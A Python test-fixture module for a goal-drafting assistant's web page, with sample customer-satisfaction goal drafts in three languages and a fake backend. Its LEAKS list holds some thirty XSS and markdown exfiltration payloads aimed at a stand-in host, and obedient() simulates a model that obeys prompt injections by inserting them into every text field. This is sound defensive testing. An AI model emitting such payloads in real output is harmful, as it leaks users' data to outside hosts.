"""Drafts in three languages and a backend that returns them, for tests of the page."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from datetime import date
from typing import Any

from assistant.drafting import grounds
from assistant.drafting.editing import editing
from assistant.errors import EmptyInput, TooLong, UsageError
from assistant.goals import (
    MAX_AIM_CHARACTERS,
    MAX_INSTRUCTION_CHARACTERS,
    Aim,
    Citation,
    Conflict,
    ConflictValue,
    Correction,
    Drafter,
    DraftResult,
    Edit,
    Evidence,
    Explanation,
    Finding,
    Fix,
    Followup,
    GateResult,
    Goal,
    History,
    KeyResult,
    LintedGoal,
    LintReport,
    Milestone,
    Number,
    Objective,
    PartialGoal,
    Passage,
    Question,
    Revised,
    Scorecard,
    ShownFacts,
    Team,
    Traits,
    Usage,
    Verdict,
)
from assistant.service import Assistant
from assistant.web.backend import ServiceBackend

TODAY = date(2026, 11, 24)
_ORIGIN = {"s": "stated", "k": "knowledge", "c": "computed", "p": "proposed", "u": "unknown", "d": "document"}
_MARK = re.compile(r"\[(\w)\|([^\]]*)\]")

AIMS = {
    "zh-Hans": "客服团队想提升客户满意度，现在CSAT是82%，希望明年上半年见效",
    "zh-Hant": "客服團隊想提升顧客滿意度，目前滿意度是 82%，希望明年上半年見效",
    "en": "The support team wants happier customers; CSAT is 82% today and should be up by mid 2027",
}

_TEXT: dict[str, dict[str, Any]] = {
    "zh-Hans": {
        "title": "让客户求助一次就满意",
        "objective": "客户每次求助，都得到又快又准的答复",
        "statement": "客服团队在[c|2027 年 6 月 30 日]前，把工单后问卷的客户满意度由[s|82%]提升到[p|86%]。",
        "parts": (
            "客服团队负责，范围是在线和电话两个渠道的已结工单。",
            "问卷里答“满意”以上的占比，由[s|82%]到[p|86%]，按月取数。",
            "每季度提高[c|2 个百分点]，两个季度到位；尽量先补上高峰时段的排班。",
            "满意度关系到续约，支撑公司留住老客户的目标。",
            "[c|2027 年 6 月 30 日]截止，[p|2027 年 3 月 31 日]做一次中期检查。",
            "每周看首次响应时长，每月开一次复盘会，连续[p|2 个月]下降就提前复盘。",
        ),
        "krs": (
            (
                "客户满意度",
                "工单后问卷的满意占比由[s|82%]提升到[p|86%]",
                "[s|82%]",
                "[p|86%]",
                "工单系统问卷报表",
                "每月",
                "客服主管",
            ),
            (
                "首次解决率",
                "先测出基线，再提高[p|8 个百分点]",
                None,
                "[p|+8 个百分点]",
                "工单系统结单记录",
                "每月",
                None,
            ),
            (
                "七日内重开率",
                "重开的工单不超过[p|6%]，防止为了结单而提前关单",
                None,
                "[p|6%]",
                "工单系统",
                "每周",
                "质检组",
            ),
        ),
        "initiatives": (
            "按小时核对进线量，调整高峰班次",
            "把前二十类问题写成答复模板，每月更新",
            "每周抽听录音，当周反馈给本人",
        ),
        "milestones": ("测出首次解决率的基线", "中期检查：满意度到[p|84%]"),
        "assumptions": ("“明年上半年”读作到[c|2027 年 6 月 30 日]为止。", "没有说明负责人，先写客服主管。"),
        "strategy": (
            "每周一用十五分钟看先行指标，客服主管主持。",
            "每月末核对结果指标，写下原因和下一步。",
            "每季度末复盘一次，决定目标去留。",
        ),
        "finding": ("尽量", "“尽量”没有说清做到多少", "删去“尽量”，或写出要排多少班次。"),
        "blank": "还没有基线",
        "blank_help": "先用结单记录测出来，再核对目标。",
        "question": ("首次解决率现在是多少？", "知道现状，才能判断目标合不合适。", ("还没统计过", "大约 60%")),
        "question2": ("这个目标支撑公司的哪个目标？", "写清了，别的团队才知道为什么要配合。", ()),
        "conflict": ("满意度的现状有两个说法：82% 和 78%。", "82%", "78%"),
        "source": (
            "基线要先测再定",
            "内部方法资料：指标与基线",
            "没有基线的目标无从判断高低。先用一个月的数据测出现状，再按团队的资源定出要到的值。测的口径要写下来，前后一致才能比较。",
        ),
        "quote": "先用一个月的数据测出现状，再按团队的资源定出要到的值。",
        "told": (
            "目标值改为 {new}，原来是 86%。",
            "没看懂要改什么，稿子没有动。",
            "已退回上一版。",
            "没有可以退回的版本。",
        ),
        "because": "目标值 86% 只是建议。依据是：半年左右改善 4 个百分点。",
        "formula": "86% − 82% = 4 个百分点，分两个季度",
        "step": "经验步长：半年 4 个百分点，不是行业基准",
    },
    "zh-Hant": {
        "title": "讓顧客求助一次就滿意",
        "objective": "顧客每次求助，都得到又快又準的回覆",
        "statement": "客服團隊在[c|2027 年 6 月 30 日]前，把案件結束後問卷的顧客滿意度由[s|82%]提升到[p|86%]。",
        "parts": (
            "客服團隊負責，範圍是線上和電話兩個管道的已結案件。",
            "問卷裡答「滿意」以上的占比，由[s|82%]到[p|86%]，按月取數。",
            "每季提高[c|2 個百分點]，兩季到位；盡量先補上尖峰時段的排班。",
            "滿意度關係到續約，支援公司留住老顧客的目標。",
            "[c|2027 年 6 月 30 日]截止，[p|2027 年 3 月 31 日]做一次期中檢查。",
            "每週看首次回應時間，每月開一次檢討會，連續[p|2 個月]下降就提前檢討。",
        ),
        "krs": (
            (
                "顧客滿意度",
                "案件後問卷的滿意占比由[s|82%]提升到[p|86%]",
                "[s|82%]",
                "[p|86%]",
                "客服系統問卷報表",
                "每月",
                "客服主管",
            ),
            (
                "首次解決率",
                "先量出基準，再提高[p|8 個百分點]",
                None,
                "[p|+8 個百分點]",
                "客服系統結案紀錄",
                "每月",
                None,
            ),
            (
                "七日內重開率",
                "重開的案件不超過[p|6%]，避免為了結案而提早關閉",
                None,
                "[p|6%]",
                "客服系統",
                "每週",
                "品質組",
            ),
        ),
        "initiatives": (
            "按小時核對進線量，調整尖峰班次",
            "把前二十類問題寫成回覆範本，每月更新",
            "每週抽聽錄音，當週回饋給本人",
        ),
        "milestones": ("量出首次解決率的基準", "期中檢查：滿意度到[p|84%]"),
        "assumptions": ("「明年上半年」讀作到[c|2027 年 6 月 30 日]為止。", "沒有說明負責人，先寫客服主管。"),
        "strategy": (
            "每週一用十五分鐘看領先指標，客服主管主持。",
            "每月底核對結果指標，寫下原因和下一步。",
            "每季底檢討一次，決定目標去留。",
        ),
        "finding": ("盡量", "「盡量」沒有說清做到多少", "刪去「盡量」，或寫出要排多少班次。"),
        "blank": "還沒有基準",
        "blank_help": "先用結案紀錄量出來，再核對目標。",
        "question": ("首次解決率目前是多少？", "知道現況，才能判斷目標合不合適。", ("還沒統計過", "大約 60%")),
        "question2": ("這個目標支援公司的哪個目標？", "寫清楚了，別的團隊才知道為什麼要配合。", ()),
        "conflict": ("滿意度的現況有兩個說法：82% 和 78%。", "82%", "78%"),
        "source": (
            "基準要先量再定",
            "內部方法資料：指標與基準",
            "沒有基準的目標無從判斷高低。先用一個月的資料量出現況，再按團隊的資源定出要到的值。量的方式要寫下來，前後一致才能比較。",
        ),
        "quote": "先用一個月的資料量出現況，再按團隊的資源定出要到的值。",
        "told": (
            "目標值改為 {new}，原本是 86%。",
            "沒看懂要改什麼，稿子沒有動。",
            "已退回上一版。",
            "沒有可以復原的修改。",
        ),
        "because": "目標值 86% 只是建議。依據是：半年左右改善 4 個百分點。",
        "formula": "86% − 82% = 4 個百分點，分兩季",
        "step": "經驗步長：半年 4 個百分點，不是業界標竿",
    },
    "en": {
        "title": "Customers leave satisfied the first time",
        "objective": "Every request for help gets a quick and accurate answer",
        "statement": "By [c|30 June 2027] the support team raises satisfaction in the closing survey from [s|82%] to [p|86%].",  # noqa: E501
        "parts": (
            "The support team owns it, over closed tickets from chat and phone.",
            "Share of “satisfied” or better in the closing survey, from [s|82%] to [p|86%], read monthly.",
            "[c|2 points] a quarter over two quarters; as far as possible the peak hours are staffed first.",
            "Satisfaction drives renewals, so it supports the company goal of keeping customers.",
            "Ends on [c|30 June 2027], with a check on [p|31 March 2027].",
            "First response time weekly, satisfaction monthly; [p|2 months] of decline bring the review forward.",
        ),
        "krs": (
            (
                "Customer satisfaction",
                "Satisfied share of the closing survey from [s|82%] to [p|86%]",
                "[s|82%]",
                "[p|86%]",
                "survey report of the ticket system",
                "monthly",
                "Head of support",
            ),
            (
                "First contact resolution",
                "Measure the baseline, then gain [p|8 points]",
                None,
                "[p|+8 points]",
                "closing records",
                "monthly",
                None,
            ),
            (
                "Reopened within seven days",
                "No more than [p|6%] reopened, so that tickets are not closed early",
                None,
                "[p|6%]",
                "ticket system",
                "weekly",
                "Quality team",
            ),
        ),
        "initiatives": (
            "Compare calls by the hour with the roster and move shifts to the peaks",
            "Write answer templates for the twenty most frequent questions",
            "Listen to recordings weekly and give feedback the same week",
        ),
        "milestones": ("Baseline of first contact resolution measured", "Mid-term check: satisfaction at [p|84%]"),
        "assumptions": (
            "“Mid 2027” is read as [c|30 June 2027].",
            "No owner was named; the head of support stands in.",
        ),
        "strategy": (
            "Fifteen minutes every Monday on leading figures, led by the head of support.",
            "Results are read at the end of each month, with causes and next steps.",
            "A review each quarter decides which goals stay.",
        ),
        "finding": (
            "as far as possible",
            "“As far as possible” sets no amount",
            "Drop it, or say how many shifts are staffed.",
        ),
        "blank": "No baseline yet",
        "blank_help": "Measure it from the closing records, then check the target.",
        "question": (
            "What is first contact resolution today?",
            "Only the present value tells whether the target fits.",
            ("Not tracked yet", "About 60%"),
        ),
        "question2": ("Which company goal does this support?", "Named, it tells other teams why to help.", ()),
        "conflict": ("Satisfaction today is given twice: 82% and 78%.", "82%", "78%"),
        "source": (
            "Measure the baseline first",
            "Internal method text: metrics and baselines",
            "A goal without a baseline cannot be judged. Measure the present state over one month, then set the value to reach from the means at hand. Write the method down so that later figures compare.",  # noqa: E501
        ),
        "quote": "Measure the present state over one month, then set the value to reach from the means at hand.",
        "told": (
            "The target is now {new}; it was 86%.",
            "I could not tell what to change, so the draft is as it was.",
            "This is the previous version again.",
            "There is nothing to undo.",
        ),
        "because": "The target, 86%, is only a suggestion. It rests on a cautious half-year step.",
        "formula": "86% − 82% = 4 points over two quarters",
        "step": "Rule of thumb: 4 points in half a year, not a benchmark",
    },
}


class _Writer:
    """Collects the numbers of marked texts."""

    def __init__(self, language: str) -> None:
        self.numbers: list[Number] = []
        self._t = _TEXT[language]
        self._aim = AIMS[language]

    def __call__(self, marked: str, field: str) -> str:
        plain, last = "", 0
        for match in _MARK.finditer(marked):
            plain += marked[last : match.start()]
            start = len(plain)
            plain += match[2]
            self._add(match[1], match[2], field, start, len(plain))
            last = match.end()
        return plain + marked[last:]

    def _add(self, key: str, words: str, field: str, start: int, end: int) -> None:
        at = self._aim.find("82%")
        evidence = {
            "s": Evidence(source="aim", start=at, end=at + 3),
            "c": Evidence(source="calendar", formula=self._t["formula"]),
            "p": Evidence(source="rule", formula=self._t["step"]),
            "k": Evidence(source="passage:baseline#1"),
            "u": Evidence(source="rule"),
            "d": Evidence(source="document:report.xlsx"),
        }[key]
        origin: Any = _ORIGIN[key]
        self.numbers.append(
            Number(
                text=words, value=None, unit=None, field=field, start=start, end=end, origin=origin, evidence=evidence
            )
        )


def scorecard(score: int = 92, ready: bool = True, **marks: Any) -> Scorecard:
    base: dict[str, Any] = dict.fromkeys(
        ("specific", "measurable", "achievable", "relevant", "time_bound", "consistent"), "pass"
    )
    return Scorecard(**{**base, **marks}, score=score, ready=ready)


def passage(language: str) -> Passage:
    title, source, words = _TEXT[language]["source"]
    lang: Any = language
    return Passage(id="baseline#1", topic="baseline", title=title, language=lang, score=0.03, source=source, text=words)


def result(
    language: str = "zh-Hans", *, conflict: bool = False, goals: int = 2, drafter: Drafter | None = None
) -> DraftResult:
    t = _TEXT[language]
    write = _Writer(language)
    written = tuple(_goal(t, write, i) for i in range(goals))
    word, message, help_ = t["finding"]
    achievable = written[0].achievable
    at = achievable.find(word)
    findings = (
        Finding(
            rule="escape-clause", id="S102", severity="warning", start=at, end=at + len(word), text=word, message=message,  # noqa: E501
            help=help_, field="/goals/0/achievable",
            fix=Fix(title=f"− {word}", edits=(Edit(start=at, end=at + len(word), replacement=""),), safety="suggested"),
        ),
        Finding(
            rule="no-baseline", id="M203", severity="info", start=0, end=len(written[0].key_results[1].target or ""),
            text=written[0].key_results[1].target or "", message=t["blank"], help=t["blank_help"],
            field="/goals/0/key_results/1/target",
        ),
    )  # fmt: skip
    assumptions = tuple(write(words, f"/assumptions/{i}") for i, words in enumerate(t["assumptions"]))
    lang: Any = language
    said = t["conflict"]
    return DraftResult(
        status="needs_input" if conflict else "with_findings",
        language=lang,
        drafter=drafter or Drafter(kind="offline"),
        goals=written,
        numbers=tuple(write.numbers),
        questions=(_question(t["question"], "baseline", "first-contact-resolution"), _question(t["question2"], "org_goal", None)),  # noqa: E501
        conflicts=(
            (
                Conflict(
                    slot="baseline",
                    values=(ConflictValue(text=said[1], source="aim"), ConflictValue(text=said[2], source="context:1")),
                    message=said[0],
                ),
            )
            if conflict
            else ()
        ),
        citations=(Citation(id="baseline#1", topic="baseline", source=t["source"][1], quote=t["quote"]),),
        assumptions=assumptions,
        monitoring_strategy=t["strategy"],
        verdict=Verdict(
            ready=not conflict, score=92, findings=findings, gates=(GateResult(name="origins", passed=True, why=""),),
            scorecards=tuple(scorecard(92 - 9 * i, achievable="warn") for i in range(goals)),
        ),
        usage=Usage(),
        timings={"total": 0.1},
    )  # fmt: skip


def _question(row: tuple[str, str, tuple[str, ...]], slot: Any, metric: str | None) -> Question:
    return Question(slot=slot, text=row[0], why=row[1], options=row[2], metric_id=metric)


def _goal(t: dict[str, Any], write: _Writer, place: int) -> Goal:
    at = f"/goals/{place}"
    names = ("specific", "measurable", "achievable", "relevant", "time_bound", "monitoring")
    parts = {name: write(words, f"{at}/{name}") for name, words in zip(names, t["parts"], strict=True)}
    return Goal(
        id=f"g{place + 1}",
        title=t["title"],
        statement=write(t["statement"], f"{at}/statement"),
        **parts,
        objective=Objective(text=t["objective"], ambition="committed"),
        key_results=tuple(_key_result(row, write, f"{at}/key_results/{i}", i) for i, row in enumerate(t["krs"])),
        initiatives=t["initiatives"],
        milestones=tuple(
            Milestone(text=write(words, f"{at}/milestones/{i}/text"), date=date(2027, 3 * i or 1, 28))
            for i, words in enumerate(t["milestones"])
        ),
        citations=("baseline#1",),
    )


def _key_result(row: tuple[Any, ...], write: _Writer, at: str, place: int) -> KeyResult:
    metric, statement, baseline, target, source, cadence, owner = row
    end = date(2027, 6, 30)
    write(f"[c|{end.isoformat()}]", f"{at}/deadline")
    return KeyResult(
        id=f"kr{place + 1}",
        statement=write(statement, f"{at}/statement"),
        metric=metric,
        metric_id=None,
        unit="%",
        direction="up" if place < 2 else "down",
        baseline=write(baseline, f"{at}/baseline") if baseline else None,
        target=write(target, f"{at}/target") if target else None,
        deadline=end,
        readout=None,
        data_source=source,
        cadence=cadence,
        owner=owner,
        kind="lagging" if place == 0 else "leading",
        guardrail=place == 2,
    )


def linted(words: str, place: int = 0) -> LintedGoal:
    at = words.find("ASAP")
    findings = ()
    if at >= 0:
        findings = (
            Finding(
                rule="vague-deadline", id="T502", severity="error", start=at, end=at + 4, text="ASAP",
                message="No date in “ASAP”", help="Give a day.",
            ),
        )  # fmt: skip
    unknown = dict.fromkeys(Traits.model_fields, None)
    return LintedGoal(
        id=f"{place + 1}", text=words, language="en", kind="smart_goal", traits=Traits(**unknown),
        facts=ShownFacts(quantities=(), times=(), metrics=(), owners=(), changes=()),
        scorecard=scorecard(25, False, measurable="fail", time_bound="fail", achievable="todo", relevant="warn"),
        findings=findings,
    )  # fmt: skip


def poisoned(value: Any, poison: str) -> Any:
    """Put the poison at the end of every free text of a result."""
    if isinstance(value, dict):
        return {k: v if k in _FIXED else poisoned(v, poison) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return tuple(poisoned(v, poison) for v in value)
    return value + poison if isinstance(value, str) else value


_FIXED = {
    "version", "status", "language", "kind", "ambition", "direction", "severity", "origin", "slot", "field", "gates",
    "scorecards", "usage", "timings", "date", "deadline", "readout", "value", "safety",
}  # fmt: skip


OUTSIDE = "https://outside.test/leak"
LEAKS = (
    f"![a]({OUTSIDE}?q=1)",
    f"[a]({OUTSIDE}?q=2)",
    f"<img src={OUTSIDE}?q=3>",
    f'<img srcset="{OUTSIDE}?q=4 1x">',
    f"<svg><image href={OUTSIDE}?q=5></svg>",
    f"<svg><use href={OUTSIDE}?q=6></svg>",
    f"<video src={OUTSIDE}?q=7 autoplay>",
    f"<audio src={OUTSIDE}?q=8 autoplay>",
    f"<iframe src={OUTSIDE}?q=9></iframe>",
    f"<object data={OUTSIDE}?q=10>",
    f"<embed src={OUTSIDE}?q=11>",
    f"<link rel=stylesheet href={OUTSIDE}?q=12>",
    f"<style>@import '{OUTSIDE}?q=13'</style>",
    f"<p style='background:url({OUTSIDE}?q=14)'>x</p>",
    f"<form action={OUTSIDE}?q=15><button>go</button></form>",
    f"<script>fetch('{OUTSIDE}?q=16')</script>",
    f"<img src=x onerror=fetch('{OUTSIDE}?q=17')>",
    f"<svg onload=fetch('{OUTSIDE}?q=18')>",
    f"<body onload=fetch('{OUTSIDE}?q=19')>",
    f"${{fetch('{OUTSIDE}?q=20')}}",
    f"`;fetch('{OUTSIDE}?q=21');`",
    f"{{{{fetch('{OUTSIDE}?q=22')}}}}",
    f"{{{{{{x}}}}}}<img src={OUTSIDE}?q=23>",
    f'"><img src={OUTSIDE}?q=24>',
    f"' onfocus=fetch('{OUTSIDE}?q=25') autofocus x='",
    f"</textarea><img src={OUTSIDE}?q=26>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}?q=27'>",
    f"<base href={OUTSIDE}?q=28>",
    f"[a]: {OUTSIDE}?q=29\n![a][a]",
    f"<a href={OUTSIDE}?q=30 ping={OUTSIDE}?q=31>x</a>",
    f"&lt;img src={OUTSIDE}?q=32&gt;",
    f"\\u003cimg src={OUTSIDE}?q=33\\u003e",
)


def obedient() -> DraftResult:
    """The draft of a model that does what every injection says: all leaks in every free text."""
    clean = result("en", conflict=True)
    bad = poisoned(clean.model_dump(), " " + " ".join(LEAKS))
    bad["verdict"]["scorecards"] = clean.verdict.scorecards
    bad["verdict"]["gates"] = (GateResult(name="g", passed=False, why=LEAKS[2]),)
    return DraftResult.model_validate(bad)


_WISHES = {
    "88%": "更有挑战|更有挑戰|More ambitious|88%",
    "84%": "更稳妥|更穩健|Less ambitious",
    "90%": "90%",
}


def retargeted(made: DraftResult, value: str) -> DraftResult:
    """Put another target into the first goal, with the marks of its numbers where they stand."""
    goal = made.goals[0]
    old = goal.key_results[0].target or ""
    results = tuple(
        each.model_copy(update={"target": value, "statement": each.statement.replace(old, value)})
        if each.target == old
        else each
        for each in goal.key_results
    )
    new = goal.model_copy(
        update={
            "statement": goal.statement.replace(old, value),
            "measurable": goal.measurable.replace(old, value),
            "key_results": results,
        }
    )
    numbers = tuple(
        n.model_copy(update={"text": value}) if n.text == old and n.field.startswith("/goals/0") else n
        for n in made.numbers
    )
    return made.model_copy(update={"goals": (new, *made.goals[1:]), "numbers": numbers})


class FakeBackend:
    """Answers at once, or slowly, in the language of the aim."""

    def __init__(self, *, pause: float = 0.0, kind: str = "offline") -> None:
        self.pause = pause
        self.drafts: list[Aim] = []
        self.followed: list[str] = []
        self.explained: list[str] = []
        self.written: tuple[tuple[PartialGoal, ...], ...] = ()
        self.poison = ""
        self.failure: Exception | None = None
        self.made: DraftResult | None = None
        self._drafter = Drafter(kind="llm", model="local-8b") if kind == "llm" else Drafter(kind="offline")
        assistant = Assistant()
        self.eval_runs, self.eval_run = assistant.eval_runs, assistant.eval_run
        self.compare_eval_runs, self.eval_report = assistant.compare_eval_runs, assistant.eval_report
        real = ServiceBackend(assistant)
        self.prepare_list, self.open_list = real.prepare_list, real.open_list
        self.export = assistant.export
        self.reading, self.lists = real.reading, real.lists
        self.planning, self.surroundings = real.planning, real.surroundings
        self.check_edit = assistant.check_edit

    def drafter_line(self) -> Drafter:
        return self._drafter

    def questions(self, aim: Aim) -> tuple[Question, ...]:
        return result(aim.language).questions

    def draft(
        self,
        aim: Aim,
        *,
        progress: Callable[[str], None] | None = None,
        partial: Callable[[tuple[PartialGoal, ...]], None] | None = None,
    ) -> DraftResult:
        for step in ("read", "brief", "search", "write", "check", "done"):
            if progress:
                progress(step)
            if step == "write" and partial:
                for goals in self.written:
                    partial(goals)
                    time.sleep(self.pause)
            time.sleep(self.pause)
        if self.failure:
            raise self.failure
        self.drafts.append(aim)
        made = self.made or result(aim.language, conflict="78%" in " ".join(aim.context), drafter=self._drafter)
        return made

    def follow_up(
        self,
        history: History,
        instruction: str,
        *,
        progress: Callable[[str], None] | None = None,
        partial: Callable[[tuple[PartialGoal, ...]], None] | None = None,
    ) -> tuple[History, Revised]:
        """Read a new target, a language and undo; nothing else."""
        if progress:
            progress("write")
        for goals in self.written if partial else ():
            partial(goals)
            time.sleep(self.pause)
        time.sleep(self.pause)
        if self.failure:
            raise self.failure
        if len(instruction) > MAX_INSTRUCTION_CHARACTERS:
            raise TooLong("Too long.", limit=f"{MAX_INSTRUCTION_CHARACTERS:,}")
        now = history.version
        told = _TEXT[now.result.language]["told"]
        self.followed.append(instruction)
        if re.search("撤销|復原|undo", instruction):
            moved = history.undo()
            step = Correction(kind="undo", text=instruction, start=0, end=len(instruction))
            said = told[2] if moved.current != history.current else told[3]
            back = moved.version
            return moved, Revised(aim=back.aim, result=back.result, changes=(step,), told=(said,))
        value = next((new for new, words in _WISHES.items() if re.search(words, instruction)), None)
        language: Any = {"改用英文": "en", "Switch to Simplified Chinese": "zh-Hans"}.get(instruction)
        if value is None and language is None:
            return history, Revised(aim=now.aim, result=now.result, told=(told[1],), not_understood=True)
        kind: Any = "language" if language else "target" if re.search(r"\d", instruction) else "ambition"
        change = Correction(kind=kind, text=instruction, start=0, end=len(instruction), goal=0)
        aim = now.aim.model_copy(
            update={"followups": (*now.aim.followups, Followup(text=instruction, corrections=(change,)))}
        )
        made = result(language) if language else retargeted(now.result, value or "")
        if language:
            aim = aim.model_copy(update={"language": language})
        said = _TEXT[language]["because"] if language else told[0].format(new=value)
        revised = Revised(aim=aim, result=made, changes=(change,), told=(said,))
        return history.add(instruction, revised), revised

    def edit(self, aim: Aim, made: DraftResult, pointer: str, text: str) -> Revised:
        """Edit as the assistant does, on a request whose passages are the samples'."""
        time.sleep(self.pause)
        if self.failure:
            raise self.failure

        def ground(changed: Aim) -> grounds.Grounds:
            return grounds.understood(changed, None, None).with_passages((passage(made.language),))

        return editing.edit(aim, made, pointer, text, ground=ground)

    def explain(self, result: DraftResult, pointer: str) -> Explanation:
        self.explained.append(pointer)
        if self.failure:
            raise self.failure
        if not re.fullmatch(r"/goals/0/key_results/[0-2]/(target|metric)", pointer):
            raise UsageError("There is no such value.")
        t = _TEXT[result.language]
        slot: Any = pointer.rsplit("/", 1)[1]
        said = t["because"] + self.poison
        source = f"{t['source'][1]}; Second (2002); Third (2005){self.poison}"
        origin: Any = "proposed" if slot == "target" else None
        quote = t["quote"] + self.poison
        return Explanation(pointer=pointer, slot=slot, text=said, origin=origin, quote=quote, source=source)

    def lint(self, text: str, *, today: date) -> LintReport:
        rows = [line for line in text.splitlines() if line.strip()]
        return LintReport(today=today, goals=tuple(linted(row, i) for i, row in enumerate(rows)))

    def passage(self, id: str) -> Passage | None:
        language = self.drafts[-1].language if self.drafts else "zh-Hans"
        return passage(language) if id == "baseline#1" else None

    def make_aim(
        self, text: str, *, team: Team, context: tuple[str, ...] = (), count: int | None = None, interface: Any = "en"
    ) -> Aim:
        if not text.strip() and not team.improve:
            raise EmptyInput("There is no text.")
        if len(text) > MAX_AIM_CHARACTERS:
            raise TooLong("Too long.")
        lang: Any = interface if not text.strip() else "zh-Hant" if re.search("團|顧", text) else "zh-Hans"
        if "wants" in text or (text.strip() and text.isascii()):
            lang = "en"
        return Aim(text=text, language=lang, team=team, context=context, today=TODAY, count=count)

    def within(self, workspace: str) -> FakeBackend:
        return self

    def connected(self, base_url: str, api_key: Any, model: str) -> Any:
        return ServiceBackend(Assistant().connected(base_url, api_key, model))

    def try_model(self) -> Any:
        return ServiceBackend().try_model()

    def warm(self) -> None:
        pass

    def markdown(self, result: DraftResult) -> str:
        return "\n\n".join(f"# {goal.title}\n\n{goal.statement}" for goal in result.goals) + "\n"
